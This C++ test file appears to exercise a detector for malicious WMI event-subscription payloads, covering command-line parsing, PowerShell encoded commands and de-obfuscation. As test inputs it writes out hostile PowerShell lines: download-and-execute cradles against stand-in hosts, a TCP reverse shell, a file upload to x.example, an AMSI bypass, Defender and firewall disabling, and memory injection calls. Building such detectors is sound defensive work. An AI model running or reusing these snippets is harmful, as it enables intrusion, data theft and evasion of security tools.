// Tests for wmisub/payload.hpp: command-line splitting against the documented
// CommandLineToArgvW / C runtime rules, the program CreateProcess runs,
// PowerShell switches in every abbreviation, encoded-command decoding,
// de-obfuscation, VBScript/JScript behaviours, LOLBin handlers, every
// indicator kind, every consumer class, limits on hostile input, and the
// shared corpus of real attacks and benign subscriptions.
#include <doctest/doctest.h>

#include "wmisub/payload.hpp"

#if __has_include(<nlohmann/json.hpp>)
#include "corpus.hpp"
#define WMISUB_PAYLOAD_TEST_CORPUS 1
#endif

#include <algorithm>
#include <atomic>
#include <chrono>
#include <set>
#include <string>
#include <string_view>
#include <vector>

using namespace std::string_literals;
using namespace std::string_view_literals;
using wmisub::indicator_kind;
using wmisub::payload_analysis;

namespace {

// An excerpt without the "…" that marks where it cuts its text: a substring of that text.
std::string_view excerpt_body(std::string_view excerpt) {
    constexpr std::string_view mark = "\xE2\x80\xA6";
    if (excerpt.starts_with(mark)) excerpt.remove_prefix(mark.size());
    if (excerpt.ends_with(mark)) excerpt.remove_suffix(mark.size());
    return excerpt;
}

// base64 of UTF-16LE, as powershell -EncodedCommand takes it.
std::string enc(std::string_view utf8) { return wmisub::base64_encode(wmisub::utf8_to_utf16le_bytes(utf8)); }

std::string dump(const payload_analysis& r) {
    std::string out;
    for (const auto& i : r.indicators) {
        out += std::string(wmisub::to_string(i.kind)) + " [" + i.field + "@" + std::to_string(i.offset) + " d" +
               std::to_string(i.depth) + "] " + i.detail + "\n";
    }
    for (const auto& s : r.chain) out += "  stage " + s.tool + ": " + s.action + "\n";
    return out;
}

bool has(const payload_analysis& r, indicator_kind k) { return r.has(k); }

payload_analysis cl(std::string_view s) { return wmisub::analyze_command_line(s); }
payload_analysis ps(std::string_view s) { return wmisub::analyze_powershell(s); }
payload_analysis vbs(std::string_view s) { return wmisub::analyze_script(s, "VBScript"); }
payload_analysis js(std::string_view s) { return wmisub::analyze_script(s, "JScript"); }

#define CHECK_KIND(r, k)                                                                                               \
    do {                                                                                                               \
        INFO(dump(r));                                                                                                 \
        CHECK(has((r), indicator_kind::k));                                                                            \
    } while (0)
#define CHECK_NO_KIND(r, k)                                                                                            \
    do {                                                                                                               \
        INFO(dump(r));                                                                                                 \
        CHECK_FALSE(has((r), indicator_kind::k));                                                                      \
    } while (0)
#define CHECK_NOT_STRONG(r)                                                                                            \
    do {                                                                                                               \
        INFO(dump(r));                                                                                                 \
        CHECK_FALSE((r).has_strong());                                                                                 \
    } while (0)

std::vector<std::string> split(std::string_view s, wmisub::argv_dialect d = wmisub::argv_dialect::msvcrt) {
    return wmisub::split_command_line(s, d);
}

}  // namespace

// ---------------------------------------------------------------------------
// Command-line splitting
// ---------------------------------------------------------------------------

TEST_CASE("split_command_line: the documented Microsoft C runtime examples") {
    // "Parsing C++ command-line arguments" (learn.microsoft.com), argv[1..] of each row.
    CHECK(split(R"(p "abc" d e)") == std::vector<std::string>{"p", "abc", "d", "e"});
    CHECK(split(R"(p a\\b d"e f"g h)") == std::vector<std::string>{"p", R"(a\\b)", "de fg", "h"});
    CHECK(split(R"(p a\\\"b c d)") == std::vector<std::string>{"p", R"(a\"b)", "c", "d"});
    CHECK(split(R"(p a\\\\"b c" d e)") == std::vector<std::string>{"p", R"(a\\b c)", "d", "e"});
    CHECK(split(R"(p a"b"" c d)") == std::vector<std::string>{"p", R"(ab" c d)"});
}

TEST_CASE("split_command_line: CommandLineToArgvW ends quoting at a doubled quote") {
    using wmisub::argv_dialect;
    CHECK(split(R"(p a"b"" c d)", argv_dialect::shell32) == std::vector<std::string>{"p", R"(ab")", "c", "d"});
    CHECK(split(R"(p "abc" d e)", argv_dialect::shell32) == std::vector<std::string>{"p", "abc", "d", "e"});
    CHECK(split(R"(p a\\b d"e f"g h)", argv_dialect::shell32) == std::vector<std::string>{"p", R"(a\\b)", "de fg", "h"});
    CHECK(split(R"(p a\\\"b c d)", argv_dialect::shell32) == std::vector<std::string>{"p", R"(a\"b)", "c", "d"});
    CHECK(split(R"(p a\\\\"b c" d e)", argv_dialect::shell32) == std::vector<std::string>{"p", R"(a\\b c)", "d", "e"});
    CHECK(split(R"(p """")", argv_dialect::shell32) == std::vector<std::string>{"p", "\""});
    CHECK(split(R"(p "a""b")", argv_dialect::shell32) == std::vector<std::string>{"p", "a\"b"});
    CHECK(split(R"(p "a""b")") == std::vector<std::string>{"p", "a\"b"});
}

TEST_CASE("split_command_line: the program name follows its own rules") {
    using wmisub::argv_dialect;
    // Quotes only, no backslash escapes, in both dialects.
    CHECK(split(R"("C:\Program Files\x.exe" a)") == std::vector<std::string>{R"(C:\Program Files\x.exe)", "a"});
    CHECK(split(R"(C:\a\"b c)", argv_dialect::shell32) == std::vector<std::string>{R"(C:\a\"b)", "c"});
    CHECK(split(R"(C:\a\"b c)") == std::vector<std::string>{R"(C:\a\b c)"});
    // Text glued to a quoted name: the CRT keeps it in argv[0], CommandLineToArgvW starts argv[1].
    CHECK(split(R"("a b"c d)") == std::vector<std::string>{"a bc", "d"});
    CHECK(split(R"("a b"c d)", argv_dialect::shell32) == std::vector<std::string>{"a b", "c", "d"});
    // A leading blank gives an empty program name.
    CHECK(split(" a b") == std::vector<std::string>{"", "a", "b"});
    CHECK(split(" a b", argv_dialect::shell32) == std::vector<std::string>{"", "a", "b"});
}

TEST_CASE("split_command_line: blanks, empty and unterminated arguments, offsets") {
    CHECK(split("p\t a\t\tb ") == std::vector<std::string>{"p", "a", "b"});
    CHECK(split(R"(p "" x)") == std::vector<std::string>{"p", "", "x"});
    CHECK(split(R"(p "" x)", wmisub::argv_dialect::shell32) == std::vector<std::string>{"p", "", "x"});
    CHECK(split(R"(p "a b)") == std::vector<std::string>{"p", "a b"});
    CHECK(split(R"(p a\b\c)") == std::vector<std::string>{"p", R"(a\b\c)"});
    CHECK(split(R"(p a\\)") == std::vector<std::string>{"p", R"(a\\)"});
    CHECK(split("").empty());
    CHECK(split("   ").empty());
    const auto args = wmisub::tokenize_command_line(R"(cmd.exe  "a b" c)");
    REQUIRE(args.size() == 3);
    CHECK(args[1].value == "a b");
    CHECK(args[1].offset == 9);
    CHECK(args[1].length == 5);
    CHECK(args[2].offset == 15);
}

// ---------------------------------------------------------------------------
// Paths, environment, the program run
// ---------------------------------------------------------------------------

TEST_CASE("expand_environment uses LocalSystem's values and cmd's substring syntax") {
    CHECK(wmisub::expand_environment(R"(%SystemRoot%\system32\cmd.exe)") == R"(C:\Windows\system32\cmd.exe)");
    CHECK(wmisub::expand_environment("%windir%|%ComSpec%") == R"(C:\Windows|C:\Windows\system32\cmd.exe)");
    CHECK(wmisub::expand_environment("%TEMP%") == R"(C:\Windows\TEMP)");
    CHECK(wmisub::expand_environment("%ProgramData%") == R"(C:\ProgramData)");
    CHECK(wmisub::expand_environment("%ComSpec:~-7,3%") == "cmd");
    CHECK(wmisub::expand_environment("%ComSpec:~0,2%") == "C:");
    CHECK(wmisub::expand_environment("%windir:Windows=WINNT%") == R"(C:\WINNT)");
    CHECK(wmisub::expand_environment("%TargetInstance.Name% %ProcessId% %%") == "%TargetInstance.Name% %ProcessId% %%");
    CHECK(wmisub::expand_environment("%NOSUCHVAR%x%windir%") == R"(%NOSUCHVAR%xC:\Windows)");
}

TEST_CASE("normalize_path and classify_writable_path") {
    CHECK(wmisub::normalize_path(R"("%SystemRoot%\System32\..\SysWOW64\.\CMD.EXE.")") == R"(c:\windows\syswow64\cmd.exe)");
    CHECK(wmisub::normalize_path(R"(\\?\C:\Temp\a.exe)") == R"(c:\temp\a.exe)");
    CHECK(wmisub::normalize_path(R"(\\?\UNC\host\share\a.exe)") == R"(\\host\share\a.exe)");
    CHECK(wmisub::normalize_path(R"(C:/PROGRA~1/x//y.exe)") == R"(c:\program files\x\y.exe)");
    CHECK(wmisub::normalize_path(R"($env:ProgramData\x.ps1)") == R"(c:\programdata\x.ps1)");
    using wmisub::writable_location;
    auto where = [](std::string_view p) { return wmisub::classify_writable_path(p); };
    CHECK(where(R"(C:\Users\bob\AppData\Roaming\x.exe)") == writable_location::user_profile);
    CHECK(where(R"(C:\Users\bob\Downloads\x.exe)") == writable_location::user_profile);
    CHECK(where(R"(C:\Users\Public\x.exe)") == writable_location::public_profile);
    CHECK(where(R"(%TEMP%\x.exe)") == writable_location::windows_temp);
    CHECK(where(R"(C:\Windows\Temp\x.exe)") == writable_location::windows_temp);
    CHECK(where(R"(C:\Windows\Tasks\x.exe)") == writable_location::windows_writable);
    CHECK(where(R"(C:\Windows\System32\spool\drivers\color\x.exe)") == writable_location::windows_writable);
    CHECK(where(R"(C:\ProgramData\x.exe)") == writable_location::program_data);
    CHECK(where(R"(C:\PerfLogs\x.exe)") == writable_location::perflogs);
    CHECK(where(R"(C:\$Recycle.Bin\x.exe)") == writable_location::recycle_bin);
    CHECK(where(R"(C:\Temp\x.exe)") == writable_location::root_temp);
    CHECK_FALSE(where(R"(C:\Windows\System32\cmd.exe)"));
    CHECK_FALSE(where(R"(C:\Program Files\App\app.exe)"));
    CHECK_FALSE(where(R"(C:\Users\Default\x.exe)"));
    CHECK_FALSE(where(R"(c:\asec2.vbs)"));
    CHECK_FALSE(where(R"(C:\tools\kernrate\KernCap.vbs)"));
    CHECK_FALSE(where(R"(\\server\share\x.exe)"));
    CHECK(wmisub::to_string(writable_location::user_profile) == "user_profile");
}

TEST_CASE("the program run: template token, implied .exe, variables, search path") {
    auto r = cl(R"(%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell -nop -c "Get-Date")");
    REQUIRE(r.executable);
    CHECK(r.executable->raw == R"(%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell)");
    CHECK(r.executable->expanded == R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell)");
    CHECK(r.executable->normalized == R"(c:\windows\system32\windowspowershell\v1.0\powershell.exe)");
    CHECK(r.executable->basename == "powershell.exe");
    CHECK(r.executable->extension_implied);
    CHECK_FALSE(r.executable->relative);
    CHECK(r.executable->field == "CommandLineTemplate");
    CHECK(r.argv == std::vector<std::string>{R"(%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell)", "-nop", "-c", "Get-Date"});
    CHECK(r.has(wmisub::capability::launches_process));

    auto rel = cl("notepad.exe");
    REQUIRE(rel.executable);
    CHECK(rel.executable->relative);
    CHECK_NOT_STRONG(rel);
    CHECK_KIND(cl("evil.exe /x"), relative_executable);
}

TEST_CASE("the program run: ExecutablePath wins over the command line's first token") {
    auto r = wmisub::analyze_command_line("svchost.exe -k netsvcs", R"(C:\Users\Public\svchost.exe)");
    REQUIRE(r.executable);
    CHECK(r.executable->field == "ExecutablePath");
    CHECK(r.executable->normalized == R"(c:\users\public\svchost.exe)");
    CHECK(r.executable->writable == wmisub::writable_location::public_profile);
    CHECK_KIND(r, runs_from_writable_path);
    CHECK_KIND(r, masqueraded_binary);
    CHECK_NO_KIND(r, argv0_mismatch);
    const auto* w = r.find(indicator_kind::runs_from_writable_path);
    REQUIRE(w != nullptr);
    CHECK(w->field == "ExecutablePath");

    auto m = wmisub::analyze_command_line("notepad.exe readme.txt", R"(C:\Windows\System32\cmd.exe)");
    CHECK_KIND(m, argv0_mismatch);
    // The arguments go to the program ExecutablePath names: cmd.exe sees "readme.txt" (no /c): nothing runs.
    CHECK(m.executable->basename == "cmd.exe");

    auto only_exe = wmisub::analyze_command_line("", R"(C:\Windows\System32\notepad.exe)");
    REQUIRE(only_exe.executable);
    CHECK(only_exe.executable->basename == "notepad.exe");
    CHECK_NOT_STRONG(only_exe);
}

TEST_CASE("the program run: unquoted paths with spaces are ambiguous") {
    auto r = cl(R"(C:\Program Files\Vendor Tool\tool.exe --run)");
    REQUIRE(r.executable);
    CHECK(r.executable->ambiguous);
    CHECK(r.executable->normalized == R"(c:\program files\vendor tool\tool.exe)");
    REQUIRE(r.executable->candidates.size() >= 3);
    CHECK(r.executable->candidates[0] == R"(C:\Program)");
    CHECK_KIND(r, unquoted_path_with_spaces);
    CHECK_NO_KIND(cl(R"("C:\Program Files\Vendor Tool\tool.exe" --run)"), unquoted_path_with_spaces);
    CHECK_NO_KIND(cl(R"(notepad.exe C:\Program Files\x.txt)"), unquoted_path_with_spaces);
    // A first token with an extension is run as it is, whatever follows.
    const auto absolute = cl(R"(C:\Windows\System32\rundll32.exe C:\Users\Public\x.dll,Start)");
    CHECK_NO_KIND(absolute, unquoted_path_with_spaces);
    REQUIRE(absolute.executable);
    CHECK_FALSE(absolute.executable->ambiguous);
    CHECK(absolute.executable->normalized == R"(c:\windows\system32\rundll32.exe)");
}

TEST_CASE("the program run: masquerading, UNC, streams") {
    CHECK_KIND(cl(R"(C:\Intel\lsass.exe)"), masqueraded_binary);
    CHECK_NO_KIND(cl(R"(C:\Windows\System32\lsass.exe)"), masqueraded_binary);
    CHECK_NO_KIND(cl(R"(C:\Windows\SysWOW64\rundll32.exe shell32.dll,Control_RunDLL)"), masqueraded_binary);
    CHECK_KIND(cl(R"(\\198.51.100.4\share\payload.exe)"), remote_code_load);
    CHECK_KIND(cl(R"(\\198.51.100.4\share\payload.exe)"), unc_path);
    CHECK_KIND(cl(R"(\\files.example@SSL\DavWWWRoot\p.exe)"), webdav_path);
    CHECK_KIND(cl(R"(C:\Windows\Temp\log.txt:payload.exe)"), alternate_data_stream);
    CHECK_NO_KIND(cl(R"(C:\Windows\notepad.exe http://example.com:8080/x)"), alternate_data_stream);
}

// ---------------------------------------------------------------------------
// PowerShell switches
// ---------------------------------------------------------------------------

TEST_CASE("PowerShell: every accepted spelling of -EncodedCommand decodes") {
    const std::string b64 = enc("Write-Output 'hello'");
    for (const char* sw : {"-e", "-E", "-en", "-enc", "-ENC", "-enco", "-encodedcommand", "-EncodedCommand", "-ec", "-EC",
                           "/e", "/enc", "--enc", "\xE2\x80\x93" "enc", "\xE2\x80\x94" "e", "\xE2\x80\x95" "ec"}) {
        CAPTURE(sw);
        const auto r = cl("powershell.exe -NoP "s + sw + " " + b64);
        INFO(dump(r));
        REQUIRE(has(r, indicator_kind::encoded_command));
        REQUIRE(r.layers.size() == 1);
        CHECK(r.layers[0].text == "Write-Output 'hello'");
        CHECK(r.layers[0].encoding == "base64_utf16le");
        CHECK(r.layers[0].field == "CommandLineTemplate>base64_utf16le");
        CHECK(r.layers[0].depth == 1);
        CHECK(r.find(indicator_kind::encoded_command)->detail == "Write-Output 'hello'");
    }
    // -ex/-ep/-exec are -ExecutionPolicy, never -EncodedCommand.
    CHECK_NO_KIND(cl("powershell -ex bypass -c Get-Date"), encoded_command);
    CHECK(cl("pwsh -e " + b64).has(indicator_kind::encoded_command));
}

TEST_CASE("PowerShell: encoded commands with missing padding, whitespace or stray text") {
    std::string b64 = enc("Get-Process");
    while (!b64.empty() && b64.back() == '=') b64.pop_back();
    auto r = cl("powershell -enc " + b64);
    REQUIRE(r.layers.size() == 1);
    CHECK(r.layers[0].text == "Get-Process");
    const std::string spaced = enc("Get-Service");
    auto q = cl("powershell -enc \"" + spaced.substr(0, 8) + " " + spaced.substr(8) + "\"");
    REQUIRE(q.layers.size() == 1);
    CHECK(q.layers[0].text == "Get-Service");
    CHECK_KIND(cl("powershell -enc !!!"), encoded_command);
}

TEST_CASE("PowerShell: -WindowStyle, -ExecutionPolicy, -NoProfile, -Command, -File, -Version") {
    for (const char* w : {"-w hidden", "-W Hidden", "-wi h", "-win hid", "-windowstyle 1", "-WindowStyle:Hidden", "/w hidden"}) {
        CAPTURE(w);
        CHECK_KIND(cl("powershell "s + w + " -c Get-Date"), hidden_window);
    }
    CHECK_NO_KIND(cl("powershell -w normal -c Get-Date"), hidden_window);
    CHECK_NO_KIND(cl("powershell -w minimized -c Get-Date"), hidden_window);
    for (const char* p : {"-ep bypass", "-ex Bypass", "-exec bypass", "-ExecutionPolicy Unrestricted", "-executionp BYPASS"}) {
        CAPTURE(p);
        CHECK_KIND(cl("powershell "s + p + " -c Get-Date"), execution_policy_bypass);
    }
    CHECK_NO_KIND(cl("powershell -ExecutionPolicy RemoteSigned -c Get-Date"), execution_policy_bypass);
    for (const char* c : {"-c", "-C", "-com", "-command", "-Command", "/c"}) {
        CAPTURE(c);
        const auto r = cl("powershell -nop -noni "s + c + " \"IEX (iwr http://203.0.113.5/a)\"");
        CHECK_KIND(r, download_cradle);
        CHECK_NO_KIND(r, implicit_profile_execution);
    }
    // A bare command after the switches (powershell.exe takes it as -Command).
    CHECK_KIND(cl("powershell -nop IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')"), download_cradle);
    // No command at all: only the profile runs, unless -NoProfile.
    CHECK_KIND(cl("powershell.exe -NonInteractive"), implicit_profile_execution);
    CHECK_KIND(cl("powershell.exe -noni -sta"), implicit_profile_execution);
    CHECK_NO_KIND(cl("powershell.exe -NoProfile"), implicit_profile_execution);
    CHECK_NO_KIND(cl("powershell.exe -nop -Command -"), implicit_profile_execution);
    // Script files in writable places; pwsh takes a bare argument as -File.
    CHECK_KIND(cl(R"(powershell -File C:\Users\Public\run.ps1)"), runs_from_writable_path);
    CHECK_KIND(cl(R"(powershell -f C:\ProgramData\run.ps1)"), runs_from_writable_path);
    CHECK_KIND(cl(R"(pwsh C:\Windows\Temp\run.ps1)"), runs_from_writable_path);
    CHECK_NO_KIND(cl(R"(powershell -File C:\Program Files\Vendor\check.ps1)"), runs_from_writable_path);
    CHECK_KIND(cl("powershell -version 2 -c Get-Date"), logging_tamper);
    CHECK_NO_KIND(cl("powershell -sta -noprofile -c Get-Date"), logging_tamper);
    // -EncodedArguments is decoded as a layer but not executed.
    auto ea = cl("powershell -ea " + enc("<Objs/>") + " -c Get-Date");
    REQUIRE_FALSE(ea.layers.empty());
    CHECK(ea.layers[0].text == "<Objs/>");
}

TEST_CASE("PowerShell: switch matching is exact about what is not an abbreviation") {
    // -noni, -nop, -NonInteractive are switches; "-non" and "-no" match nothing, so
    // powershell.exe takes them as the start of the command and reads no further switches.
    CHECK_KIND(cl("powershell -noni -nop -NonInteractive -w hidden -c Get-Date"), hidden_window);
    CHECK_NO_KIND(cl("powershell -non -w hidden"), hidden_window);
    CHECK_NO_KIND(cl("powershell -no -w hidden"), hidden_window);
    CHECK_KIND(cl("powershell -noe -sta -mta -nol -nop -w hidden -c Get-Date"), hidden_window);
    // Values are consumed: "-w -enc" takes "-enc" as the window style.
    CHECK_NO_KIND(cl("powershell -w -enc " + enc("Get-Date")), encoded_command);
    // The command is everything after -Command, switches included.
    const auto r = cl("powershell -c Write-Output -enc x");
    CHECK_NO_KIND(r, encoded_command);
    CHECK(r.layers.empty());
}

TEST_CASE("PowerShell: nested encoded commands are decoded layer by layer") {
    const std::string inner = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/stage2')";
    const std::string middle = "powershell -nop -w hidden -e " + enc(inner);
    const auto r = cl("powershell -enc " + enc(middle));
    REQUIRE(r.layers.size() == 2);
    CHECK(r.layers[0].text == middle);
    CHECK(r.layers[1].text == inner);
    CHECK(r.layers[1].field == "CommandLineTemplate>base64_utf16le>base64_utf16le");
    CHECK(r.layers[1].parent_field == "CommandLineTemplate>base64_utf16le");
    CHECK(r.layers[1].depth >= 2);
    const auto* cradle = r.find(indicator_kind::download_cradle);
    REQUIRE(cradle != nullptr);
    CHECK(cradle->field == r.layers[1].field);
    CHECK(r.layers[1].text.substr(cradle->offset, 14) == "DownloadString");
    const auto* url = r.find(indicator_kind::url);
    REQUIRE(url != nullptr);
    CHECK(url->detail == "http://192.0.2.44/stage2");
    CHECK_KIND(r, hidden_window);
}

TEST_CASE("PowerShell: nesting deeper than max_depth stops cleanly") {
    std::string cmd = "Get-Date";
    for (int i = 0; i < 14; ++i) cmd = "powershell -enc " + enc(cmd);
    const auto r = cl(cmd);
    CHECK(r.truncated);
    CHECK(r.layers.size() <= 8);
    for (const auto& l : r.layers) CHECK(l.depth <= 8);
    CHECK_KIND(r, encoded_command);
    wmisub::payload_options o;
    o.max_depth = 2;
    const auto shallow = wmisub::analyze_command_line(cmd, {}, o);
    CHECK(shallow.truncated);
    CHECK(shallow.layers.size() <= 2);
}

// ---------------------------------------------------------------------------
// De-obfuscation
// ---------------------------------------------------------------------------

TEST_CASE("de-obfuscation: PowerShell ticks, concatenation, [char], -f, -join, -replace, variables, case") {
    const auto tick = ps("I`E`X (New-Object Net.WebClient).DownloadString('http://x.example/a')");
    CHECK_KIND(tick, dynamic_code);
    CHECK_KIND(tick, download_cradle);
    const auto* d = tick.find(indicator_kind::dynamic_code);
    REQUIRE(d != nullptr);
    CHECK(d->excerpt.find("I`E`X") != std::string::npos);  // evidence quotes the original text
    CHECK(d->offset == 0);

    CHECK_KIND(ps("(New-Object Net.WebClient).('Down'+'loadString').Invoke('http://x.example/a') | & ('IE'+'X')"), download_cradle);
    CHECK_KIND(ps("&([char]73+[char]69+[char]88) 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&([char]0x49+[char]0x45+[char]0x58) 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&([char](73)+[System.Char]69+[char]88) 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&((\"{1}{0}\" -f 'EX','I')) 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&((\"{2}{0}{1}\"-f('E','X','I'))) 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&(('I','E','X')-join'') 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&(-join('I','E','X')) 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&([string]::join('', ('I','E','X'))) 'x'"), dynamic_code);
    CHECK_KIND(ps("&('IqqEX' -replace 'qq','') 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&('IqqEX'.Replace('qq','')) 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&($env:comspec[4,15,25]-join'') 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&($pshome[4]+$pshome[30]+'x') 'whoami'"), dynamic_code);
    CHECK_KIND(ps("&( $ShellId[1]+$ShellId[13]+'x') 'whoami'"), dynamic_code);
    CHECK_KIND(ps("InVoKe-ExPrEsSiOn\n\t  'whoami'"), dynamic_code);
    // Invoke-Obfuscation idioms: quoted member names, [char[]] lists, array concatenation before -join.
    CHECK_KIND(ps("${ExEcUtIoNcOnTeXt}.\"InV`OKecOmmaNd\".\"InV`OKEScRIPt\"(([sTrIng]::jOIN('', [ChaR[]](119,104,111))))"), dynamic_code);
    CHECK_KIND(ps("&( $VerbosePreference.ToString()[1,3]+'x'-Join'') 'whoami'"), dynamic_code);
    CHECK_KIND(ps("& (-join[char[]](73,69,88)) 'whoami'"), dynamic_code);
    CHECK_KIND(ps("$wc = New-Object `\n Net.WebClient\n$wc.DownloadString('http://x.example/a') | iex"), download_cradle);
    const auto o = ps("I`E`X ((\"{1}{0}\" -f 'loadString','Down'))");
    CHECK_KIND(o, obfuscation);
    CHECK(o.find(indicator_kind::obfuscation)->detail.find("ticks=2") != std::string::npos);
    // Comments are not code.
    CHECK_NO_KIND(ps("# IEX was used here once\nGet-Date"), dynamic_code);
    CHECK_NO_KIND(ps("<# Invoke-Expression #> Get-Date"), dynamic_code);
    // Ordinary string building is not obfuscation.
    CHECK_NO_KIND(ps("Write-Host ('Report for ' + $env:COMPUTERNAME + ' generated')"), obfuscation);
}

TEST_CASE("de-obfuscation: heavy obfuscation") {
    std::string s = "&(";
    for (const char c : std::string_view("Invoke-Expression")) s += "[char]" + std::to_string(static_cast<int>(c)) + "+";
    s += "''";
    s += ") ('W'+'r'+'i'+'t'+'e'+'-'+'H'+'o'+'s'+'t'+' '+'x')";
    const auto r = ps(s);
    CHECK_KIND(r, dynamic_code);
    CHECK_KIND(r, heavy_obfuscation);
}

TEST_CASE("de-obfuscation: cmd carets, quotes, substrings and variables") {
    const std::string b64 = enc("Get-Date");
    CHECK_KIND(cl("cmd /c p^o^w^e^r^s^h^e^l^l -e^n^c " + b64), encoded_command);
    CHECK_KIND(cl("cmd /c p^o^w^e^r^s^h^e^l^l -e^n^c " + b64), obfuscation);
    CHECK_KIND(cl("cmd /c p\"\"ower\"\"shell -enc " + b64), encoded_command);
    CHECK_KIND(cl("cmd /c p\"\"ower\"\"shell -enc " + b64), obfuscation);
    const auto sub = cl("cmd.exe /c %ComSpec:~-7,3% /c powershell -enc " + b64);
    CHECK_KIND(sub, encoded_command);
    CHECK_KIND(sub, obfuscation);
    CHECK_KIND(cl("cmd /c \"set a=powershell&& call %a% -enc " + b64 + "\""), encoded_command);
    CHECK_KIND(cl("cmd /V:ON /C \"set x=power&&set y=shell&&!x!!y! -enc " + b64 + "\""), encoded_command);
    CHECK_NO_KIND(cl("cmd /c echo hello"), obfuscation);
}

TEST_CASE("de-obfuscation: VBScript Chr(), StrReverse, Replace and concatenation") {
    CHECK_KIND(vbs("Set s = CreateObject(Chr(87) & Chr(83) & \"cript.Shell\")\ns.Run \"calc\""), script_process_launch);
    CHECK_KIND(vbs("CreateObject(StrReverse(\"llehS.tpircSW\")).Run \"calc.exe\""), script_process_launch);
    CHECK_KIND(vbs("CreateObject(Replace(\"WScrXXipt.Shell\", \"XX\", \"\")).Run \"calc.exe\""), script_process_launch);
    CHECK_KIND(vbs("CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\").Run \"calc.exe\""), script_process_launch);
    CHECK_KIND(vbs("CreateObject(\"WScript.Shell\").Run ChrW(&H63) & ChrW(&H61) & \"lc\""), script_process_launch);
    const auto many = vbs("x = Chr(112)&Chr(111)&Chr(119)&Chr(101)&Chr(114)&Chr(115)&Chr(104)&Chr(101)&Chr(108)&Chr(108)");
    CHECK_KIND(many, obfuscation);
}

TEST_CASE("de-obfuscation: JScript escapes, fromCharCode and reversal") {
    CHECK_KIND(js("new ActiveXObject(String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108)).Run(\"calc\")"), script_process_launch);
    CHECK_KIND(js("new ActiveXObject(\"\\x57Script.\\u0053hell\").Run(\"calc\")"), script_process_launch);
    CHECK_KIND(js("new ActiveXObject(\"llehS.tpircSW\".split(\"\").reverse().join(\"\")).Run(\"calc\")"), script_process_launch);
    CHECK_KIND(js("var o = new ActiveXObject('WScr' + 'ipt.Shell'); o.Run('calc');"), script_process_launch);
    CHECK_KIND(js("this['ev' + 'al']('1+1')"), dynamic_code);
}

// ---------------------------------------------------------------------------
// PowerShell behaviours
// ---------------------------------------------------------------------------

TEST_CASE("PowerShell behaviours fire") {
    CHECK_KIND(ps("iwr http://192.0.2.1/a.ps1 -UseBasicParsing | iex"), download_cradle);
    CHECK_KIND(ps("Invoke-RestMethod https://x.example/p | Invoke-Expression"), download_cradle);
    CHECK_KIND(ps("$c=New-Object System.Net.Http.HttpClient; iex $c.GetStringAsync('https://x.example').Result"), download_cradle);
    CHECK_KIND(ps("(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe','C:\\Users\\Public\\a.exe')"), download);
    CHECK_KIND(ps("(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe','C:\\Users\\Public\\a.exe')"), executable_file_write);
    CHECK_KIND(ps("Invoke-WebRequest -Uri http://x.example/a.exe -OutFile $env:TEMP\\a.exe"), download);
    CHECK_KIND(ps("Start-BitsTransfer -Source http://x.example/a -Destination C:\\ProgramData\\a"), download);
    CHECK_KIND(ps("(New-Object Net.WebClient).UploadFile('http://x.example/up', 'C:\\secrets.txt')"), data_upload);
    CHECK_KIND(ps("Invoke-WebRequest -Uri http://x.example/ -Method Get"), network_request);
    CHECK_KIND(ps("$c=New-Object Net.Sockets.TCPClient('192.0.2.9',443);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1 | Out-String)}"), reverse_shell);
    CHECK_KIND(ps("[ScriptBlock]::Create($code).Invoke()"), dynamic_code);
    CHECK_KIND(ps("$ExecutionContext.InvokeCommand.InvokeScript($x)"), dynamic_code);
    CHECK_KIND(ps("[Convert]::FromBase64String($x)"), base64_decode);
    CHECK_KIND(ps("New-Object IO.Compression.DeflateStream($m,[IO.Compression.CompressionMode]::Decompress)"), compressed_payload);
    CHECK_KIND(ps("[System.Reflection.Assembly]::Load($bytes)"), in_memory_assembly);
    CHECK_KIND(ps("[AppDomain]::CurrentDomain.Load($bytes)"), in_memory_assembly);
    CHECK_KIND(ps("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"), amsi_bypass);
    CHECK_KIND(ps("[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance')"), logging_tamper);
    CHECK_KIND(ps("Clear-EventLog -LogName Security"), logging_tamper);
    CHECK_KIND(ps("Set-MpPreference -DisableRealtimeMonitoring $true"), security_tool_tamper);
    CHECK_KIND(ps("Add-MpPreference -ExclusionPath C:\\"), security_tool_tamper);
    CHECK_KIND(ps("Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False"), security_tool_tamper);
    CHECK_KIND(ps("Stop-Service WinDefend -Force"), security_tool_tamper);
    CHECK_KIND(ps("Add-Type -TypeDefinition '[DllImport(\"user32.dll\")] public static extern int MessageBox(int a);'"), native_api_access);
    CHECK_KIND(ps("$p = [Win32]::VirtualAlloc(0, 4096, 0x3000, 0x40); [Win32]::CreateThread(0,0,$p,0,0,0)"), process_injection);
    CHECK_KIND(ps("Register-ScheduledTask -TaskName u -Action (New-ScheduledTaskAction -Execute calc.exe)"), scheduled_task);
    CHECK_KIND(ps("New-Service -Name svc -BinaryPathName 'C:\\Users\\Public\\s.exe'"), service_install);
    CHECK_KIND(ps("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value 'C:\\u.exe'"), autostart_registry_write);
